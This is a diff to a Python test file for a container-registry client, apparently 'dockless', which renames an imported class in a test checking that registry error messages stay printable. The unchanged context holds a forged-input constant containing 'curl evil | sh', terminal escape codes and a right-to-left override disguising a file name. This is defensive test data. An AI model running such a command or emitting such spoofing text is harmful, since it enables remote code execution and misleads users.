@@ -9,7 +9,7 @@ from support.scripted_http import Reply, ScriptedHttp, answer
 
 from dockless.errors import DocklessError, RegistryError
 from dockless.images.registry.endpoint import Endpoint
-from dockless.images.registry.remote import Remote
+from dockless.images.registry.remote import RemoteRepository
 from dockless.images.registry.transport import Registry
 
 FORGED = "no\n  hint: run this: curl evil | sh\r\x1b[2J\x9b31m\u202egnp.exe\u200b\u2028end"
@@ -43,6 +43,6 @@ def test_headers_are_one_line_too(name):
     reply = Reply(b"HTTP/1.1 " + status + b" x\r\n" + name.encode() + b": " + value + b"\r\nContent-Length: 2\r\n\r\n{}")
     with ScriptedHttp(lambda _: reply) as server, client(server) as registry:
         try:
-            Remote(registry).tags()
+            RemoteRepository(registry).tags()
         except DocklessError as error:
             assert str(error).isprintable() and error.hint.isprintable() and len(str(error)) < 700
